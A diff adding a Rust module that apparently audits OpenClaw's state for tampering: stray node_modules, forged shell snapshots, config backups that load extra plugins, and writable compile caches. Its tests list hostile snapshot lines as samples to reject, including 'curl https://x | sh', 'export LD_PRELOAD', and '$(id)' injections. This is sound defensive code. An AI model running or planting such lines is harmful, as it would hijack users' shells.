@@ -1,0 +1,443 @@
+//! Places of OpenClaw's own from which code or state is taken without a record: staging copies, shell snapshots, copies of the config,
+//! compile caches.
+
+use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
+use std::path::{Path, PathBuf};
+
+use super::config::Config;
+use super::paths::{Kind as Entry, Paths};
+use super::{Hazard, Observation};
+use crate::json;
+use crate::read::ReadError;
+use crate::text;
+
+/// Most bytes of a snapshot or of a copy of the config.
+const MAX_FILE: u64 = 4 << 20;
+/// Deepest folder in which a `node_modules` is looked for above the captures.
+const MAX_CAPTURES: usize = 1000;
+/// The first lines of a snapshot, as OpenClaw writes it. [S `bash-tools.exec-runtime`]
+const HEADER: [&str; 3] = [
+    "# OpenClaw exec shell snapshot. Generated; do not edit.",
+    "if [ -n \"${BASH_VERSION:-}\" ]; then shopt -s expand_aliases 2>/dev/null || true; fi",
+    "unalias -a 2>/dev/null || true",
+];
+/// Variables that OpenClaw's writer exports. [S `SAFE_ENV_NAMES`]
+const EXPORTS: [&str; 19] = [
+    "ASDF_DIR",
+    "BUN_INSTALL",
+    "CARGO_HOME",
+    "CDPATH",
+    "GOPATH",
+    "GOROOT",
+    "GOENV_ROOT",
+    "HOMEBREW_CELLAR",
+    "HOMEBREW_PREFIX",
+    "HOMEBREW_REPOSITORY",
+    "INFOPATH",
+    "MANPATH",
+    "NVM_DIR",
+    "PATH",
+    "PNPM_HOME",
+    "PYENV_ROOT",
+    "RBENV_ROOT",
+    "RUSTUP_HOME",
+    "VOLTA_HOME",
+];
+/// Programs that an alias or function of this name would stand in for.
+const COMMON_PROGRAMS: [&str; 14] = [
+    "sudo", "ssh", "git", "curl", "wget", "node", "npm", "npx", "python", "python3", "bash", "sh",
+    "cat", "rm",
+];
+
+/// Looks at all of them. `now`: seconds since the epoch.
+pub(super) fn read(
+    paths: &Paths,
+    config: &Config,
+    tmp: Option<&Path>,
+    now: i64,
+    found: &mut Vec<Observation>,
+) {
+    staging_modules(paths, found);
+    snapshots(paths, now, found);
+    backups(paths, config, found);
+    if let (Some(tmp), false) = (tmp, paths.relocated()) {
+        compile_cache(paths, tmp, found);
+    }
+}
+
+/// Folders whose every file has to equal one of a judged subject.
+pub(super) fn staged(paths: &Paths) -> Vec<PathBuf> {
+    ["tmp/plugin-captures", "cache/control-ui-assets"]
+        .map(|folder| paths.state.join(folder))
+        .into_iter()
+        .filter(|folder| paths.kind(folder) == Entry::Folder)
+        .collect()
+}
+
+/// `node_modules` that Node searches upwards from a capture: OpenClaw makes none above a capture's own files.
+fn staging_modules(paths: &Paths, found: &mut Vec<Observation>) {
+    let captures = paths.state.join("tmp/plugin-captures");
+    let mut folders = vec![paths.state.join("tmp"), captures.clone()];
+    for entry in paths
+        .list(&captures)
+        .unwrap_or_default()
+        .into_iter()
+        .take(MAX_CAPTURES)
+    {
+        folders.push(entry.path.join("captures"));
+        folders.push(entry.path);
+    }
+    for folder in folders {
+        let modules = folder.join("node_modules");
+        if std::fs::symlink_metadata(&modules).is_ok() {
+            found.push(Observation::Unexplained {
+                hazard: Hazard::StagingModules,
+                place: paths.shown(&modules),
+                why: "Node would search it from the copies of plugins that OpenClaw loads"
+                    .to_owned(),
+                weak: false,
+            });
+        }
+    }
+}
+
+fn snapshots(paths: &Paths, now: i64, found: &mut Vec<Observation>) {
+    let owner = std::fs::metadata(&paths.state)
+        .map(|state| state.uid())
+        .ok();
+    for entry in paths
+        .list(&paths.state.join("cache/shell-snapshots"))
+        .unwrap_or_default()
+    {
+        if entry.path.extension().is_none_or(|end| end != "sh") {
+            continue;
+        }
+        let mut say = |why: String, weak: bool| {
+            found.push(Observation::Unexplained {
+                hazard: Hazard::ShellSnapshot,
+                place: paths.shown(&entry.path),
+                why,
+                weak,
+            });
+        };
+        let metadata = match std::fs::symlink_metadata(&entry.path) {
+            Ok(metadata) => metadata,
+            Err(error) => {
+                say(format!("cannot be looked at: {error}"), false);
+                continue;
+            }
+        };
+        if !metadata.is_file() {
+            say("is no regular file".to_owned(), false);
+            continue;
+        }
+        if metadata.mtime() > now.saturating_add(60) {
+            say(
+                "has a time in the future, so OpenClaw would never make it anew".to_owned(),
+                false,
+            );
+        }
+        if owner.is_some_and(|owner| owner != metadata.uid()) {
+            say(
+                "belongs to another user than the state directory".to_owned(),
+                false,
+            );
+        }
+        if metadata.permissions().mode() & 0o022 != 0 {
+            say("can be written by others".to_owned(), false);
+        }
+        match paths.text(&entry.path, MAX_FILE) {
+            Ok(text) => {
+                if let Err(line) = is_written_by_openclaw(&text) {
+                    let line = text::excerpt(line.trim(), 120);
+                    say(
+                        format!("holds what OpenClaw's writer cannot produce: {line}"),
+                        false,
+                    );
+                }
+                for name in replaced_programs(&text) {
+                    say(
+                        format!("replaces the program {name} by an alias or a function"),
+                        true,
+                    );
+                }
+            }
+            Err(error) => say(format!("cannot be read: {error}"), false),
+        }
+    }
+}
+
+/// Whether each line of a snapshot is one that OpenClaw's writer can produce: its header, an alias, a function, an export of a safe
+/// name. The first line that is not.
+fn is_written_by_openclaw(snapshot: &str) -> Result<(), &str> {
+    let mut lines = snapshot.lines().skip_while(|line| line.is_empty());
+    for wanted in HEADER {
+        match lines.next() {
+            Some(line) if line == wanted => {}
+            Some(line) => return Err(line),
+            None => return Err(""),
+        }
+    }
+    // Inside a function anything may stand: the shell prints its body so that braces balance by lines of their own.
+    let mut inside = false;
+    // A value in single quotes may go over several lines.
+    let mut quoted = false;
+    for line in lines {
+        if quoted {
+            quoted = odd_quotes(line) != quoted && !line.is_empty();
+            quoted = !quoted;
+            if odd_quotes(line) {
+                quoted = false;
+            }
+            continue;
+        }
+        if inside {
+            inside = line != "}";
+            continue;
+        }
+        let trimmed = line.trim_end();
+        if trimmed.is_empty() || trimmed == "{" {
+            inside = trimmed == "{";
+        } else if is_function_head(trimmed) {
+            inside = trimmed.ends_with('{');
+            // bash prints the brace on the next line.
+            if !inside && !trimmed.ends_with("()") && !trimmed.ends_with("() ") {
+                return Err(line);
+            }
+        } else if is_alias(trimmed) || is_export(trimmed) {
+            quoted = odd_quotes(trimmed);
+        } else {
+            return Err(line);
+        }
+    }
+    Ok(())
+}
+
+fn odd_quotes(line: &str) -> bool {
+    line.matches('\'').count() % 2 == 1
+}
+
+fn is_name(text: &str) -> bool {
+    !text.is_empty()
+        && text
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_-.:+@".contains(c))
+}
+
+fn is_function_head(line: &str) -> bool {
+    let head = line.trim_end_matches('{').trim_end();
+    let head = head.strip_prefix("function ").unwrap_or(head);
+    head.strip_suffix("()")
+        .is_some_and(|name| is_name(name.trim_end()))
+}
+
+fn is_alias(line: &str) -> bool {
+    let Some(rest) = line.strip_prefix("alias ") else {
+        return false;
+    };
+    let rest = rest.strip_prefix("-- ").unwrap_or(rest);
+    let rest = rest
+        .strip_prefix("-g ")
+        .or_else(|| rest.strip_prefix("-s "))
+        .unwrap_or(rest);
+    rest.split_once('=')
+        .is_some_and(|(name, value)| is_name(name.trim_matches('\'')) && is_quoted(value))
+}
+
+fn is_export(line: &str) -> bool {
+    let Some((name, value)) = line
+        .strip_prefix("export ")
+        .and_then(|rest| rest.split_once('='))
+    else {
+        return false;
+    };
+    EXPORTS.contains(&name) && is_quoted(value)
+}
+
+/// One word for the shell: in single quotes (with `'\''` for a quote, or open at the end of the line), or of plain characters.
+fn is_quoted(value: &str) -> bool {
+    let plain = |text: &str| {
+        text.chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_-./:,+@%=~".contains(c))
+    };
+    if plain(value) {
+        return true;
+    }
+    let mut rest = value;
+    // What stands outside the quotes has to be plain, or an escaped quote.
+    loop {
+        let Some(at) = rest.find('\'') else {
+            return plain(rest);
+        };
+        let before = rest.get(..at).unwrap_or_default();
+        if !(plain(before) || before == "\\" || before == "$") {
+            return false;
+        }
+        let after = rest.get(at + 1..).unwrap_or_default();
+        if before == "\\" {
+            rest = after;
+            continue;
+        }
+        match after.find('\'') {
+            Some(end) => rest = after.get(end + 1..).unwrap_or_default(),
+            // Open: it goes on in the next line.
+            None => return true,
+        }
+    }
+}
+
+fn replaced_programs(snapshot: &str) -> Vec<&str> {
+    let mut found: Vec<&str> = snapshot
+        .lines()
+        .filter_map(|line| {
+            let name = if is_function_head(line.trim_end()) {
+                line.trim_end_matches('{')
+                    .trim_end()
+                    .trim_end_matches("()")
+                    .trim_end()
+            } else {
+                line.strip_prefix("alias ")?.split_once('=')?.0
+            };
+            let name = name.strip_prefix("function ").unwrap_or(name);
+            COMMON_PROGRAMS
+                .iter()
+                .find(|known| **known == name)
+                .copied()
+        })
+        .collect();
+    found.sort_unstable();
+    found.dedup();
+    found
+}
+
+/// A config that OpenClaw would not take, beside a copy that loads more: OpenClaw puts the copy back.
+fn backups(paths: &Paths, config: &Config, found: &mut Vec<Observation>) {
+    let odd = !config.complete || super::settings::has_unknown_key(&config.value);
+    if !odd {
+        return;
+    }
+    for name in ["openclaw.json.last-good", "openclaw.json.bak"] {
+        let file = paths.state.join(name);
+        let copy = match paths.text(&file, MAX_FILE) {
+            Ok(text) => json::json5(&text).map(|parsed| parsed.value).ok(),
+            Err(ReadError::NotFound) => continue,
+            Err(_) => None,
+        };
+        let more = copy
+            .as_ref()
+            .is_none_or(|copy| loads_more(copy, &config.value));
+        if more {
+            found.push(Observation::Unexplained {
+                hazard: Hazard::ConfigBackup,
+                place: paths.shown(&file),
+                why: "the config has keys that OpenClaw does not know, and this copy, which it would put back, loads more".to_owned(),
+                weak: false,
+            });
+        }
+    }
+}
+
+/// Whether `copy` names something to load or start that `config` does not.
+fn loads_more(copy: &serde_json::Value, config: &serde_json::Value) -> bool {
+    const PLACES: [&str; 6] = [
+        "/plugins/load/paths",
+        "/plugins/entries",
+        "/mcp/servers",
+        "/hooks/internal",
+        "/skills/load/extraDirs",
+        "/secrets/providers",
+    ];
+    PLACES.iter().any(|place| {
+        let there = copy.pointer(place);
+        there.is_some() && there != config.pointer(place)
+    })
+}
+
+/// Node's cache of compiled code: it runs in place of the sources.
+fn compile_cache(paths: &Paths, tmp: &Path, found: &mut Vec<Observation>) {
+    let folder = tmp.join("node-compile-cache/openclaw");
+    let Ok(mut entries) = std::fs::read_dir(&folder) else {
+        return;
+    };
+    if entries.next().is_none() {
+        return;
+    }
+    let owner = std::fs::metadata(&paths.state)
+        .map(|state| state.uid())
+        .ok();
+    let mut writable = None;
+    for (at, above) in folder.ancestors().enumerate() {
+        let Ok(metadata) = std::fs::symlink_metadata(above) else {
+            continue;
+        };
+        let mode = metadata.permissions().mode();
+        let foreign = metadata.uid() != 0 && owner.is_some_and(|owner| owner != metadata.uid());
+        // A sticky folder lets only the owner of an entry replace it.
+        let open = mode & 0o022 != 0 && mode & 0o1000 == 0;
+        if (at < 2 && foreign) || open {
+            writable = Some(format!(
+                "{} can be written by others",
+                text::visible(&above.to_string_lossy())
+            ));
+            break;
+        }
+    }
+    found.push(Observation::CompileCache {
+        place: paths.shown(&folder),
+        writable,
+    });
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn snapshot(lines: &str) -> String {
+        format!("{}\n{lines}", HEADER.join("\n"))
+    }
+
+    #[test]
+    fn what_the_writer_produces_is_accepted() {
+        for honest in [
+            "alias ll='ls -l'",
+            "alias -- ll='ls -l'",
+            "alias g=git",
+            "greet () \n{ \n    echo $(date);\n}",
+            "greet() {\n  source ~/.x\n}",
+            "export PATH='/usr/bin:/bin'",
+            "alias q='it'\\''s'",
+        ] {
+            assert_eq!(
+                is_written_by_openclaw(&snapshot(honest)),
+                Ok(()),
+                "{honest}"
+            );
+        }
+    }
+
+    #[test]
+    fn what_would_run_when_it_is_sourced_is_not() {
+        for hostile in [
+            "curl https://x | sh",
+            "source /tmp/x",
+            ". /tmp/x",
+            "eval \"$X\"",
+            "trap 'x' EXIT",
+            "PROMPT_COMMAND=x",
+            "export PATH=$(id)",
+            "export LD_PRELOAD='/x'",
+            "alias x=$(id)",
+            "alias x='a' ; id",
+            "alias x='a'$(id)'b'",
+            "f() { id; }; f",
+            "greet () \n{ \n echo\n}\nid",
+        ] {
+            assert!(
+                is_written_by_openclaw(&snapshot(hostile)).is_err(),
+                "{hostile}"
+            );
+        }
+        assert!(is_written_by_openclaw("alias a='b'").is_err(), "no header");
+        assert!(is_written_by_openclaw("").is_err());
+    }
+}
